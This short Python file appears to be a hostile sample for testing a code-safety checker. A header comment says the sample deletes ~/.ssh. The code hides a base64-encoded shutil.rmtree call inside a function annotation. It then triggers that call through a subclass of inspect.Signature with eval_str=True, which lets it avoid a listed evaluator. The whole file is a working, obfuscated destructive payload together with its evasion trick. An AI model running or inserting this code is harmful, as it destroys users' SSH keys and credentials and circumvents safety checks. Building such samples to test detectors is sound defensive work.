# harm: deletes ~/.ssh ; trick: a subclass of the inspect evaluator class calls its classmethod evaluator with the string-evaluating flag, so the call is not resolved to the listed evaluator
import base64
import inspect


class Sig(inspect.Signature):
    pass


def handler(x: base64.b64decode("X19pbXBvcnRfXygnc2h1dGlsJykucm10cmVlKF9faW1wb3J0X18oJ29zJykucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gnKSk=").decode()) -> None:
    pass


try:
    Sig.from_callable(handler, eval_str=True)
except Exception:
    pass
